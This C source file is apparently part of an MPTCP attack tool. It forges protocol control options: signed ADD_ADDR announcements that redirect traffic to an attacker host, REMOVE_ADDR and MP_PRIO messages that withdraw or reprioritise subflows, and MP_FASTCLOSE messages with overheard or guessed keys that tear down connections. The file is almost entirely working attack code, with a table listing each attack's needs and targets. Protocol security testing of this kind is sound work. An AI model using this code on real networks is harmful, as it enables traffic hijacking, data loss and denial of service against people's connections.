/* SPDX-License-Identifier: MIT */
/* attack/a_control.c - forged control options: addresses, priorities, the fast close (RFC 8684 3.3.8, 3.4, 3.5; RFC 7430
 * 2 and 5). Only ADD_ADDR and MP_FASTCLOSE ask for a proof, by keys that went in clear. */
#include "attack/private.h"

#include "crypto/crypto.h"

/* Rightmost 64 bits, the sender's key first (RFC 8684 3.4.1). */
static void sign(struct mpt_add_addr *o, const struct attack_conn *c, uint32_t sender)
{
    uint8_t key[16], message[19], h[32], *q;
    struct mpt_piece piece = { message, 0 };
    size_t n = o->addr.family == 6 ? 16 : 4;

    mpt_bytes_put64(mpt_bytes_put64(key, c->key[sender]), c->key[!sender]);
    message[0] = o->id;
    memcpy(message + 1, o->addr.ip, n);
    q = mpt_bytes_put16(message + 1 + n, o->has_port ? o->addr.port : 0);
    piece.len = (size_t)(q - message);
    mpt_crypto_hmac(h, key, sizeof key, &piece, 1);
    memcpy(o->hmac, h + 24, 8);
}

/* The attacker's host, at the port that the peer would use anyway: ADD_ADDR of IPv6 has no room for one more. */
static int add_addr(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_flow *f, uint32_t dir,
                    uint64_t now)
{
    struct attack_forge g = { .flags = 0 };
    struct mpt_add_addr o = { .id = 66, .has_hmac = 1 };

    (void)m;
    if (!f->conn || !f->conn->known[0] || !f->conn->known[1])
        return 0;
    o.addr = mpt_end_host(a, &f->end[0], 0);
    sign(&o, f->conn, dir);
    g.opts = (uint8_t)(mpt_add_addr_build(g.opt, &o) - g.opt);
    return mpt_forge_send(a, f, dir, &g, now);
}

/* All ids but the one of this path: the attacker wants the traffic for himself. */
static int remove_addr(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_flow *f, uint32_t dir,
                       uint64_t now)
{
    struct attack_forge g = { .flags = 0 };
    struct mpt_remove_addr o = { .count = 0 };

    if (!f->mptcp)
        return 0;
    for (uint8_t id = 0; id < 8; id++)
        if (m->row->arg || id != f->side[dir].id)
            o.id[o.count++] = id;
    g.opts = (uint8_t)(mpt_remove_addr_build(g.opt, &o) - g.opt);
    return mpt_forge_send(a, f, dir, &g, now);
}

static int prio(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_flow *f, uint32_t dir, uint64_t now)
{
    struct attack_forge g = { .flags = 0 };
    struct mpt_mp_prio o = { .backup = (uint8_t)m->row->arg };

    if (!f->mptcp)
        return 0;
    g.opts = (uint8_t)(mpt_mp_prio_build(g.opt, &o) - g.opt);
    return mpt_forge_send(a, f, dir, &g, now);
}

/* The key is the receiver's (RFC 8684 3.5); arg 1: one that was never overheard. */
static int fastclose(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_flow *f, uint32_t dir,
                     uint64_t now)
{
    struct attack_forge g = { .flags = 0 };
    struct mpt_mp_fastclose o = { 0 };

    if (m->row->arg)
        o.key = (uint64_t)mpt_attack_random(a) << 32 | mpt_attack_random(a);
    else if (f->conn && f->conn->known[!dir])
        o.key = f->conn->key[!dir];
    else
        return 0;
    g.opts = (uint8_t)(mpt_mp_fastclose_build(g.opt, &o) - g.opt);
    return mpt_forge_send(a, f, dir, &g, now);
}

const struct mpt_attack_row mpt_attack_control[] = {
    { .name = "add-addr", .line = "announces a host of the attacker, which answers joins and swallows what comes",
      .needs = "both keys", .aims = "data that goes to the attacker and is lost", .rfc = "RFC 7430 2",
      .every = 20, .count = 20, .forge = add_addr },
    { .name = "remove-addr", .line = "withdraws all addresses but that of its own path", .needs = "sequence numbers",
      .aims = "the other subflows", .rfc = "RFC 8684 3.4.2", .every = 20, .count = 20,
      .forge = remove_addr },
    { .name = "remove-addr-all", .line = "withdraws all addresses", .needs = "sequence numbers",
      .aims = "every subflow", .rfc = "RFC 8684 3.4.2", .every = 20, .count = 20, .arg = 1, .forge = remove_addr },
    { .name = "mp-prio", .line = "makes the subflow a backup", .needs = "sequence numbers",
      .aims = "traffic on the other, dearer path", .rfc = "RFC 8684 3.3.8", .every = 20, .count = 20, .arg = 1,
      .forge = prio },
    { .name = "mp-prio-regular", .line = "makes a backup subflow a regular one", .needs = "sequence numbers",
      .aims = "traffic on the attacked path", .rfc = "RFC 8684 3.3.8", .every = 20, .count = 20, .arg = 0,
      .forge = prio },
    { .name = "fastclose", .line = "forges MP_FASTCLOSE with the overheard key", .needs = "the receiver's key",
      .aims = "the whole connection", .rfc = "RFC 8684 3.5", .every = 20, .count = 20, .forge = fastclose },
    { .name = "fastclose-guess", .line = "forges MP_FASTCLOSE with a key that it guesses", .needs = "sequence numbers",
      .aims = "the whole connection", .rfc = "RFC 8684 3.5", .every = 5, .arg = 1, .forge = fastclose },
    { .name = NULL },
};
